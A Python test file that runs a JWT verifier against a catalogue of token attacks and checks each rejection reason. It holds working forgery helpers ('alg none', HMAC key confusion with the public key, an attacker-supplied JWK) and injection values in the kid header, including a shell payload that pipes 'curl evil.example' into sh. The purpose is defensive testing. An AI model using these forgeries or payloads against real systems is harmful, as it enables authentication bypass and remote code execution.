"""TokenVerifier against the JWT attack catalogue: each attack's reason code and its key fetches."""

from __future__ import annotations

import hashlib
import hmac
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from hypothesis import example, given, settings
from hypothesis import strategies as st

from okta_authorizer.errors import ConfigurationError, Reason, TokenError
from okta_authorizer.jwks import KeySet
from okta_authorizer.localdev.keys import SigningKey, b64url, b64url_json, okta_claims
from okta_authorizer.settings import Settings
from okta_authorizer.tokens import MAX_TOKEN_BYTES, TokenVerifier
from tests.support import (
    ACME_ISSUER,
    TOKEN_AUDIENCE,
    TOKEN_NOW,
    ManualClock,
    MemoryJwksFetcher,
    ec_jwk,
    memory_verifier,
    sign_raw,
    token_error_reason,
)

ISSUER = ACME_ISSUER
AUDIENCE = TOKEN_AUDIENCE
NOW = TOKEN_NOW


@dataclass
class Target:
    """A verifier trusting ISSUER whose key set publishes `jwks`, and the fetcher behind it."""

    verifier: TokenVerifier
    fetcher: MemoryJwksFetcher

    def reason(self, token: str) -> Reason:
        return token_error_reason(self.verifier.verify, token)


def target(jwks: list[dict[str, Any]], **settings: Any) -> Target:
    return Target(*memory_verifier(jwks, **settings))


def claims(**changes: Any) -> dict[str, Any]:
    return okta_claims(ISSUER, AUDIENCE, now=NOW) | changes


def signed(key: SigningKey, header: dict[str, Any], body: dict[str, Any] | None = None) -> str:
    """A real RS256 signature by `key` over any header."""
    return key.token(claims() if body is None else body, header=header)


def hmac_forged(key: SigningKey, alg: str, secret_form: str) -> str:
    """The classic key-confusion forgery: HS* keyed with the issuer's public key."""
    public = key.private.public_key()
    secret = {
        "pem": public.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        ),
        "der": public.public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
        ),
        "jwk": json.dumps(key.public_jwk()).encode(),
    }[secret_form]
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    unsigned = f"{b64url_json({'kid': key.kid, 'alg': alg})}.{b64url_json(claims())}"
    return f"{unsigned}.{b64url(hmac.new(secret, unsigned.encode(), digest).digest())}"


def alg_none(key: SigningKey, alg: str, signature: str) -> str:
    unsigned = f"{b64url_json({'kid': key.kid, 'alg': alg})}.{b64url_json(claims())}"
    sig = {"empty": "", "garbage": "c2lnbmF0dXJl", "real": signed(key, {}).split(".")[2]}
    return f"{unsigned}.{sig[signature]}"


def with_signature(token: str, signature: str) -> str:
    return token.rsplit(".", 1)[0] + "." + signature


def tampered_payload(key: SigningKey) -> str:
    header, _, signature = signed(key, {"kid": key.kid, "alg": "RS256"}).split(".")
    escalated = b64url_json(claims(scp=["beds:read", "admin"], sub="admin@example.com"))
    return f"{header}.{escalated}.{signature}"


def truncated_signature(key: SigningKey) -> str:
    token = signed(key, okta(key))
    signing_input = token.rsplit(".", 1)[0].encode("ascii")
    return with_signature(token, b64url(key.sign(signing_input)[:-1]))


def non_canonical_signature(key: SigningKey) -> str:
    # 256 bytes encode to 342 characters whose last carries 4 unused bits; set one of them.
    token = signed(key, {"kid": key.kid, "alg": "RS256"})
    signature = token.rsplit(".", 1)[1]
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    bumped = alphabet[alphabet.index(signature[-1]) | 1]
    return with_signature(token, signature[:-1] + bumped)


ATTACKER = SigningKey(kid="attacker")


def okta(key: SigningKey) -> dict[str, Any]:
    return {"kid": key.kid, "alg": "RS256"}


Build = Callable[[SigningKey], str]

# (id, build the token from the issuer's real key, expected reason)
PRE_NETWORK: list[tuple[str, Build, Reason]] = [
    *[
        (
            f"alg-{alg}-{sig}-signature",
            (lambda k, a=alg, s=sig: alg_none(k, a, s)),
            Reason.UNSUPPORTED_ALGORITHM,
        )
        for alg in ("none", "None", "NONE", "nOnE")
        for sig in ("empty", "garbage", "real")
    ],
    *[
        (
            f"{alg}-keyed-with-public-{form}",
            (lambda k, a=alg, f=form: hmac_forged(k, a, f)),
            Reason.UNSUPPORTED_ALGORITHM,
        )
        for alg in ("HS256", "HS384", "HS512")
        for form in ("pem", "der", "jwk")
    ],
    (
        "alg-ES256",
        lambda k: signed(k, {"kid": k.kid, "alg": "ES256"}),
        Reason.UNSUPPORTED_ALGORITHM,
    ),
    (
        "alg-PS256",
        lambda k: signed(k, {"kid": k.kid, "alg": "PS256"}),
        Reason.UNSUPPORTED_ALGORITHM,
    ),
    (
        "alg-RS384-not-configured",
        lambda k: signed(k, {"kid": k.kid, "alg": "RS384"}),
        Reason.UNSUPPORTED_ALGORITHM,
    ),
    (
        "alg-lowercase-rs256",
        lambda k: signed(k, {"kid": k.kid, "alg": "rs256"}),
        Reason.UNSUPPORTED_ALGORITHM,
    ),
    ("alg-missing", lambda k: signed(k, {"kid": k.kid}), Reason.MALFORMED_TOKEN),
    ("alg-list", lambda k: signed(k, {"kid": k.kid, "alg": ["RS256"]}), Reason.MALFORMED_TOKEN),
    (
        "header-jku",
        lambda k: signed(k, okta(k) | {"jku": "https://evil.example/keys"}),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "header-x5u",
        lambda k: signed(k, okta(k) | {"x5u": "https://evil.example/cert.pem"}),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "header-jwk-embedded-attacker-key",
        lambda k: ATTACKER.token(claims(), header=okta(k) | {"jwk": ATTACKER.public_jwk()}),
        Reason.MALFORMED_TOKEN,
    ),
    ("header-x5c", lambda k: signed(k, okta(k) | {"x5c": ["MIIBIjAN"]}), Reason.MALFORMED_TOKEN),
    ("header-x5t", lambda k: signed(k, okta(k) | {"x5t": "abc"}), Reason.MALFORMED_TOKEN),
    ("header-x5t#S256", lambda k: signed(k, okta(k) | {"x5t#S256": "abc"}), Reason.MALFORMED_TOKEN),
    ("header-crit", lambda k: signed(k, okta(k) | {"crit": ["exp"]}), Reason.MALFORMED_TOKEN),
    ("header-b64", lambda k: signed(k, okta(k) | {"b64": False}), Reason.MALFORMED_TOKEN),
    ("header-zip", lambda k: signed(k, okta(k) | {"zip": "DEF"}), Reason.MALFORMED_TOKEN),
    ("header-typ-jose", lambda k: signed(k, okta(k) | {"typ": "JOSE"}), Reason.MALFORMED_TOKEN),
    ("header-typ-not-string", lambda k: signed(k, okta(k) | {"typ": 1}), Reason.MALFORMED_TOKEN),
    ("kid-missing", lambda k: signed(k, {"alg": "RS256"}), Reason.MALFORMED_TOKEN),
    ("kid-empty", lambda k: signed(k, {"alg": "RS256", "kid": ""}), Reason.MALFORMED_TOKEN),
    ("kid-number", lambda k: signed(k, {"alg": "RS256", "kid": 1}), Reason.MALFORMED_TOKEN),
    ("kid-null", lambda k: signed(k, {"alg": "RS256", "kid": None}), Reason.MALFORMED_TOKEN),
    ("kid-list", lambda k: signed(k, {"alg": "RS256", "kid": [k.kid]}), Reason.MALFORMED_TOKEN),
    (
        "kid-path-traversal",
        lambda k: signed(k, {"alg": "RS256", "kid": "../../dev/null"}),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "kid-sql-injection",
        lambda k: signed(k, {"alg": "RS256", "kid": "x' OR '1'='1' --"}),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "kid-shell-injection",
        lambda k: signed(k, {"alg": "RS256", "kid": "$(curl evil.example|sh);`id`"}),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "kid-too-long",
        lambda k: signed(k, {"alg": "RS256", "kid": "a" * 129}),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "kid-with-newline",
        lambda k: signed(k, {"alg": "RS256", "kid": "a\nb"}),
        Reason.MALFORMED_TOKEN,
    ),
    ("signature-stripped", lambda k: with_signature(signed(k, okta(k)), ""), Reason.BAD_SIGNATURE),
    (
        "signature-junk-appended",
        lambda k: signed(k, okta(k)) + "!!",
        Reason.MALFORMED_TOKEN,
    ),
    ("signature-padding-appended", lambda k: signed(k, okta(k)) + "==", Reason.MALFORMED_TOKEN),
    ("signature-standard-base64", lambda k: signed(k, okta(k)) + "+/", Reason.MALFORMED_TOKEN),
    ("signature-impossible-length", lambda k: signed(k, okta(k)) + "AAA", Reason.MALFORMED_TOKEN),
    ("signature-non-canonical", non_canonical_signature, Reason.MALFORMED_TOKEN),
    ("two-segments", lambda k: signed(k, okta(k)).rsplit(".", 1)[0], Reason.MALFORMED_TOKEN),
    ("four-segments", lambda k: signed(k, okta(k)) + ".AAAA", Reason.MALFORMED_TOKEN),
    ("five-segments", lambda k: signed(k, okta(k)) + ".AAAA.AAAA", Reason.MALFORMED_TOKEN),
    (
        "empty-header-segment",
        lambda k: "." + signed(k, okta(k)).split(".", 1)[1],
        Reason.MALFORMED_TOKEN,
    ),
    (
        "header-not-json",
        lambda k: sign_raw(k, "{alg: RS256}", json.dumps(claims())),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "header-json-array",
        lambda k: sign_raw(k, json.dumps([okta(k)]), json.dumps(claims())),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "header-json-string",
        lambda k: sign_raw(k, '"RS256"', json.dumps(claims())),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "header-not-utf8",
        lambda k: sign_raw(k, b'{"alg":"RS256","kid":"\xff\xfe"}', json.dumps(claims())),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "header-utf16",
        lambda k: sign_raw(k, json.dumps(okta(k)).encode("utf-16"), json.dumps(claims())),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "header-deeply-nested-within-size",
        lambda k: sign_raw(k, "[" * 4000, json.dumps(claims())),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "header-deeply-nested-100000",
        lambda k: sign_raw(k, "[" * 100_000, json.dumps(claims())),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "payload-not-json",
        lambda k: sign_raw(k, json.dumps(okta(k)), "iss=me"),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "payload-json-array",
        lambda k: sign_raw(k, json.dumps(okta(k)), json.dumps([claims()])),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "payload-json-null",
        lambda k: sign_raw(k, json.dumps(okta(k)), "null"),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "payload-not-utf8",
        lambda k: sign_raw(k, json.dumps(okta(k)), b'{"iss":"\xc3\x28"}'),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "payload-deeply-nested-within-size",
        lambda k: sign_raw(k, json.dumps(okta(k)), "[" * 4000),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "payload-deeply-nested-100000",
        lambda k: sign_raw(k, json.dumps(okta(k)), "[" * 100_000),
        Reason.MALFORMED_TOKEN,
    ),
    (
        "token-over-8-KiB",
        lambda k: signed(k, okta(k), claims(pad="x" * MAX_TOKEN_BYTES)),
        Reason.MALFORMED_TOKEN,
    ),
    ("token-non-ascii", lambda k: signed(k, okta(k)) + "é", Reason.MALFORMED_TOKEN),
    (
        "token-non-ascii-look-alike-dot",
        lambda k: signed(k, okta(k)).replace(".", "\u2024", 1),
        Reason.MALFORMED_TOKEN,
    ),
    ("token-with-whitespace", lambda k: " " + signed(k, okta(k)), Reason.MALFORMED_TOKEN),
    ("token-empty", lambda _: "", Reason.MALFORMED_TOKEN),
    (
        "issuer-of-attackers-choice",
        lambda k: ATTACKER.token(
            claims(iss="https://evil.example/oauth2/default"), header={"kid": k.kid, "alg": "RS256"}
        ),
        Reason.UNTRUSTED_ISSUER,
    ),
]


@pytest.mark.parametrize(
    ("build", "reason"),
    [(build, reason) for _, build, reason in PRE_NETWORK],
    ids=[case_id for case_id, _, _ in PRE_NETWORK],
)
def test_tokens_attack_is_rejected_before_any_key_fetch(
    rsa_key: SigningKey, build: Build, reason: Reason
) -> None:
    # GIVEN a verifier whose key set has not been loaded yet
    victim = target([rsa_key.public_jwk()])
    token = build(rsa_key)

    # WHEN the forged or malformed token arrives
    got = victim.reason(token)

    # THEN it is rejected with the expected reason, and no key was fetched to find that out
    assert got is reason
    assert victim.fetcher.calls == 0


@pytest.mark.parametrize(
    ("header", "member"),
    [
        ({"jku": "https://evil.example/keys"}, "jku"),
        ({"jwk": {"kty": "RSA"}}, "jwk"),
        ({"crit": ["exp"], "b64": False}, "b64"),
    ],
    ids=["jku", "jwk", "crit-and-b64"],
)
def test_tokens_forbidden_header_member_is_named_in_the_detail(
    rsa_key: SigningKey, header: dict[str, Any], member: str
) -> None:
    # GIVEN a token with a header member that points at keys or changes processing
    token = signed(rsa_key, okta(rsa_key) | header)

    # WHEN it is verified
    with pytest.raises(TokenError) as caught:
        target([rsa_key.public_jwk()]).verifier.verify(token)

    # THEN the detail names the member, for the operator reading the decision log
    assert caught.value.reason is Reason.MALFORMED_TOKEN
    assert repr(member) in caught.value.detail


@pytest.mark.parametrize("part", ["header", "payload"], ids=["nested-header", "nested-payload"])
def test_tokens_deep_nesting_within_size_fails_in_the_json_parser(
    rsa_key: SigningKey, part: str
) -> None:
    # GIVEN deeply nested JSON small enough to pass the size check
    nested = "[" * 4000
    parts = {"header": json.dumps(okta(rsa_key)), "payload": json.dumps(claims())} | {part: nested}
    token = sign_raw(rsa_key, parts["header"], parts["payload"])
    assert len(token) <= MAX_TOKEN_BYTES

    # WHEN it is verified
    with pytest.raises(TokenError) as caught:
        target([rsa_key.public_jwk()]).verifier.verify(token)

    # THEN the parser's RecursionError became a malformed-token error about that part's JSON
    assert caught.value.reason is Reason.MALFORMED_TOKEN
    assert f"{part} is not UTF-8 JSON" in caught.value.detail


def test_tokens_size_limit_is_8_KiB_inclusive(rsa_key: SigningKey) -> None:
    # GIVEN valid tokens padded to just under and just over the limit (base64 grows in steps)
    base = len(signed(rsa_key, okta(rsa_key), claims(pad="")))
    estimate = (MAX_TOKEN_BYTES - base) * 3 // 4
    tokens = [
        signed(rsa_key, okta(rsa_key), claims(pad="x" * n))
        for n in range(estimate - 4, estimate + 4)
    ]
    largest_allowed = max((t for t in tokens if len(t) <= MAX_TOKEN_BYTES), key=len)
    smallest_over = min((t for t in tokens if len(t) > MAX_TOKEN_BYTES), key=len)
    assert len(largest_allowed) >= MAX_TOKEN_BYTES - 1

    # WHEN / THEN the one at the limit passes and the one over it is malformed, before any fetch
    victim = target([rsa_key.public_jwk()])
    assert victim.reason(smallest_over) is Reason.MALFORMED_TOKEN
    assert victim.fetcher.calls == 0
    assert victim.verifier.verify(largest_allowed).sub == "nurse.joy@example.com"


WEAK = SigningKey(kid="weak-1024", bits=1024)


@pytest.mark.parametrize(
    ("jwks", "build", "reason"),
    [
        (
            lambda k: [k.public_jwk()],
            tampered_payload,
            Reason.BAD_SIGNATURE,
        ),
        (
            lambda k: [k.public_jwk()],
            lambda k: ATTACKER.token(claims(), header=okta(k)),
            Reason.BAD_SIGNATURE,
        ),
        (
            lambda k: [k.public_jwk()],
            lambda k: with_signature(signed(k, okta(k)), b64url(b"\x00" * 256)),
            Reason.BAD_SIGNATURE,
        ),
        (
            lambda k: [k.public_jwk()],
            lambda k: with_signature(signed(k, okta(k)), b64url(k.sign(b"other input"))),
            Reason.BAD_SIGNATURE,
        ),
        (
            lambda k: [k.public_jwk()],
            truncated_signature,
            Reason.BAD_SIGNATURE,
        ),
        (
            lambda k: [k.public_jwk()],
            lambda _: ATTACKER.token(claims(), header={"kid": "no-such-kid", "alg": "RS256"}),
            Reason.UNKNOWN_KEY,
        ),
        (
            lambda k: [k.public_jwk(use="enc")],
            lambda k: signed(k, okta(k)),
            Reason.UNKNOWN_KEY,
        ),
        (
            lambda _: [WEAK.public_jwk()],
            lambda _: signed(WEAK, okta(WEAK)),
            Reason.UNKNOWN_KEY,
        ),
        (
            lambda k: [k.public_jwk(), ec_jwk(k.kid)],
            lambda k: signed(k, okta(k)),
            Reason.UNKNOWN_KEY,
        ),
        (
            lambda k: [ec_jwk(k.kid)],
            lambda k: signed(k, okta(k)),
            Reason.UNKNOWN_KEY,
        ),
        (
            lambda k: [k.public_jwk(), ATTACKER.public_jwk(kid=k.kid)],
            lambda k: ATTACKER.token(claims(), header=okta(k)),
            Reason.UNKNOWN_KEY,
        ),
    ],
    ids=[
        "payload-tampered-after-signing",
        "signed-by-attacker-key-with-our-kid",
        "signature-zero-bytes",
        "signature-over-other-input",
        "signature-truncated",
        "unknown-kid",
        "key-with-use-enc",
        "key-1024-bit",
        "ec-key-under-the-same-kid",
        "only-an-ec-key-under-that-kid",
        "attacker-key-published-under-the-same-kid",
    ],
)
def test_tokens_attack_needing_the_key_set_is_rejected_after_one_fetch(
    rsa_key: SigningKey,
    jwks: Callable[[SigningKey], list[dict[str, Any]]],
    build: Build,
    reason: Reason,
) -> None:
    # GIVEN an issuer publishing this key set
    victim = target(jwks(rsa_key))

    # WHEN the token arrives
    got = victim.reason(build(rsa_key))

    # THEN it is rejected with the expected reason after exactly one key-set load
    assert got is reason
    assert victim.fetcher.calls == 1


def test_tokens_key_published_for_another_algorithm_is_refused(rsa_key: SigningKey) -> None:
    # GIVEN RS384 allowed by configuration, but the key is published with alg RS256
    victim = target([rsa_key.public_jwk()], algorithms=("RS256", "RS384"))
    token = signed(rsa_key, {"kid": rsa_key.kid, "alg": "RS384"})

    # WHEN a token signed under that kid claims RS384
    got = victim.reason(token)

    # THEN the key's own alg wins: the algorithm is not supported for it
    assert got is Reason.UNSUPPORTED_ALGORITHM


def test_tokens_verifier_refuses_to_be_configured_with_symmetric_algorithms(
    rsa_key: SigningKey,
) -> None:
    # GIVEN settings that would allow HS256 or none
    for algorithms in (("RS256", "HS256"), ("none",), ()):
        # WHEN / THEN the verifier cannot be built
        with pytest.raises(ConfigurationError, match="algorithms"):
            target([rsa_key.public_jwk()], algorithms=algorithms)


def test_tokens_repeated_unknown_kids_cost_one_fetch(rsa_key: SigningKey) -> None:
    # GIVEN a loaded key set
    victim = target([rsa_key.public_jwk()])
    victim.verifier.verify(signed(rsa_key, okta(rsa_key)))

    # WHEN a flood of tokens names random kids
    reasons = {
        victim.reason(ATTACKER.token(claims(), header={"kid": f"random-{n}", "alg": "RS256"}))
        for n in range(20)
    }

    # THEN each is an unknown key, and at most one refresh happened on top of the first load
    assert reasons == {Reason.UNKNOWN_KEY}
    assert victim.fetcher.calls <= 2


def test_tokens_valid_token_still_passes_after_attacks(rsa_key: SigningKey) -> None:
    # GIVEN a verifier that has just rejected forgeries under the real kid
    victim = target([rsa_key.public_jwk()])
    for _ in range(3):
        victim.reason(tampered_payload(rsa_key))

    # WHEN the real token arrives, THEN it passes (no poisoned cache, no lock-out)
    assert victim.verifier.verify(signed(rsa_key, okta(rsa_key))).kid == rsa_key.kid


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3)
    ),
    max_leaves=8,
)
CLAIM_NAMES = st.sampled_from(
    ["iss", "aud", "exp", "iat", "nbf", "sub", "cid", "uid", "jti", "scp", "scope"]
)


@settings(max_examples=150, deadline=None)
@given(changes=st.dictionaries(CLAIM_NAMES, JSON_VALUES, max_size=4))
def test_tokens_any_signed_claims_give_a_token_or_a_token_error(
    rsa_key: SigningKey, changes: dict[str, Any]
) -> None:
    # GIVEN a correctly signed token whose claims hold arbitrary JSON values
    token = signed(rsa_key, okta(rsa_key), claims(**changes))

    # WHEN it is verified
    try:
        result = target([rsa_key.public_jwk()]).verifier.verify(token)
    except TokenError:
        # THEN a rejection is a TokenError (anything else fails the test) ...
        return
    # ... and an acceptance carries well-typed fields
    assert isinstance(result.sub, str)
    assert result.sub
    assert type(result.exp) is int
    assert all(isinstance(scope, str) for scope in result.scopes)


@settings(max_examples=300, deadline=None)
@given(
    token=st.text(max_size=64)
    | st.text(alphabet="AZaz09-_.=+/ \x00é", max_size=64)
    | st.builds(
        lambda h, p, s: f"{b64url(h)}.{b64url(p)}.{s}",
        st.binary(max_size=40),
        st.binary(max_size=40),
        st.text(alphabet="AZaz09-_", max_size=8),
    )
)
def test_tokens_arbitrary_input_only_ever_raises_token_error(
    rsa_key: SigningKey, token: str
) -> None:
    # GIVEN any string at all, WHEN it is verified, THEN the only failure is a TokenError
    victim = target([rsa_key.public_jwk()])
    with pytest.raises(TokenError):
        victim.verifier.verify(token)


def test_tokens_key_replaced_under_the_same_kid_is_used_after_refresh(rsa_key: SigningKey) -> None:
    # GIVEN a verifier that has verified (and kept a key object for) the key under kid "rotating"
    old, new = SigningKey(kid="rotating"), SigningKey(kid="rotating")
    fetcher = MemoryJwksFetcher([old.public_jwk()])
    clock = ManualClock()
    key_set = KeySet(ISSUER, fetcher=fetcher, jwks_uri=f"{ISSUER}/v1/keys", clock=clock)
    config = Settings(issuers=(ISSUER,), audiences=(AUDIENCE,))
    verifier = TokenVerifier(config, {ISSUER: key_set}, clock=ManualClock(NOW))
    assert verifier.verify(signed(old, okta(old))).kid == "rotating"

    # WHEN the issuer replaces the key material under the same kid and the key set refreshes
    fetcher.keys = [new.public_jwk()]
    clock.advance(3601)

    # THEN the new key verifies and the old key object is not reused for the old signatures
    assert verifier.verify(signed(new, okta(new))).kid == "rotating"
    with pytest.raises(TokenError) as caught:
        verifier.verify(signed(old, okta(old)))
    assert caught.value.reason is Reason.BAD_SIGNATURE


def test_tokens_many_key_rotations_keep_verifying_current_keys(rsa_key: SigningKey) -> None:
    # GIVEN an issuer that rotates to a new kid 40 times (more kids than the key-object cache holds)
    fetcher = MemoryJwksFetcher([])
    clock = ManualClock()
    key_set = KeySet(ISSUER, fetcher=fetcher, jwks_uri=f"{ISSUER}/v1/keys", clock=clock)
    config = Settings(issuers=(ISSUER,), audiences=(AUDIENCE,))
    verifier = TokenVerifier(config, {ISSUER: key_set}, clock=ManualClock(NOW))

    for n in range(40):
        kid = f"kid-{n}"
        fetcher.keys = [rsa_key.public_jwk(kid=kid)]
        clock.advance(31)  # past the unknown-kid cooldown

        # WHEN a token under the newest kid arrives, THEN it verifies
        assert verifier.verify(signed(rsa_key, {"kid": kid, "alg": "RS256"})).kid == kid

    # AND a token under a retired kid is an unknown key
    with pytest.raises(TokenError) as caught:
        verifier.verify(signed(rsa_key, {"kid": "kid-0", "alg": "RS256"}))
    assert caught.value.reason is Reason.UNKNOWN_KEY


@pytest.mark.parametrize(
    "value", [None, b"a.b.c", 42, ["a.b.c"]], ids=["none", "bytes", "int", "list"]
)
def test_tokens_non_text_token_is_malformed(rsa_key: SigningKey, value: Any) -> None:
    victim = target([rsa_key.public_jwk()])

    assert victim.reason(value) is Reason.MALFORMED_TOKEN
    assert victim.fetcher.calls == 0


def test_tokens_verifier_needs_a_key_set_for_every_issuer(rsa_key: SigningKey) -> None:
    # GIVEN two trusted issuers but a key set for only one
    config = Settings(issuers=(ISSUER, "https://acme.okta.com/oauth2/aus2"), audiences=(AUDIENCE,))
    key_set = KeySet(ISSUER, fetcher=MemoryJwksFetcher([]), jwks_uri=f"{ISSUER}/v1/keys")

    # WHEN / THEN building the verifier fails naming the issuer variable
    with pytest.raises(ConfigurationError) as caught:
        TokenVerifier(config, {ISSUER: key_set})
    assert caught.value.variable == "OKTA_ISSUER"


ABSENT = object()  # a header member left out
HEADER_VALUES = (
    st.none()
    | st.booleans()
    | st.integers(-2, 2)
    | st.text(max_size=6)
    | st.lists(st.text(max_size=3), max_size=2)
)
# Written out here rather than imported: the test states the rule, tokens.py implements it.
POINTERS_AND_PROCESSING = {"jku", "x5u", "jwk", "x5c", "x5t", "x5t#S256", "crit", "b64", "zip"}


def header_member(good: list[Any], bad: list[Any]) -> st.SearchStrategy[Any]:
    # Good values half the time, so that headers one member away from valid are common.
    return st.sampled_from(good) | st.sampled_from([ABSENT, *bad]) | HEADER_VALUES


@settings(max_examples=400, deadline=None)
@example(alg="RS256", kid="test-key-1", typ=None, extra={})
@example(alg="RS256", kid="../../dev/null", typ=ABSENT, extra={})
@example(alg="RS256", kid="other-key", typ=ABSENT, extra={})
@example(alg="RS256", kid="test-key-1", typ=ABSENT, extra={"x5t": None})
@given(
    alg=header_member(["RS256"], ["RS384", "HS256", "ES256", "PS256", "none", "rs256", ""]),
    kid=header_member(["test-key-1"], ["other-key", "../../dev/null", "", "k" * 129, "a b"]),
    typ=header_member(
        [ABSENT, "JWT", "jwt", "at+jwt", "AT+JWT"], ["JOSE", "application/at+jwt", "JWT "]
    ),
    extra=st.just({})
    | st.dictionaries(
        st.sampled_from([*sorted(POINTERS_AND_PROCESSING), "cty", "x-custom", "iss"]),
        HEADER_VALUES,
        max_size=2,
    ),
)
def test_tokens_any_signed_header_passes_only_if_it_is_exactly_okta_shaped(
    rsa_key: SigningKey, alg: Any, kid: Any, typ: Any, extra: dict[str, Any]
) -> None:
    # GIVEN a token really signed (RS256) by the issuer's key under an arbitrary JOSE header
    key = rsa_key
    members = {"alg": alg, "kid": kid, "typ": typ}
    header = extra | {name: value for name, value in members.items() if value is not ABSENT}
    victim = target([key.public_jwk()])
    token = signed(key, header)

    # WHEN it is verified
    try:
        victim.verifier.verify(token)
        accepted, reason = True, None
    except TokenError as error:
        accepted, reason = False, error.reason

    # THEN it passes exactly when the header is one Okta could have written: RS256, the
    # published kid, no member that points at keys or changes processing, `typ` JWT or at+jwt
    well_formed = (
        alg == "RS256"
        and isinstance(kid, str)
        and re.fullmatch(r"[A-Za-z0-9_.-]{1,128}", kid) is not None
        and POINTERS_AND_PROCESSING.isdisjoint(header)
        and (typ is ABSENT or (isinstance(typ, str) and typ.lower() in {"jwt", "at+jwt"}))
    )
    okta_shaped = well_formed and kid == "test-key-1"
    assert accepted is okta_shaped, (header, reason)
    # AND only a well-formed header reaches the key set (a kid it does not hold is unknown_key:
    # asking is how a rotated key is found); any other is refused before the key set is asked
    assert victim.fetcher.calls == (1 if well_formed else 0)
    if well_formed and not okta_shaped:
        assert reason is Reason.UNKNOWN_KEY
    if isinstance(alg, str) and alg != "RS256":
        assert reason is Reason.UNSUPPORTED_ALGORITHM
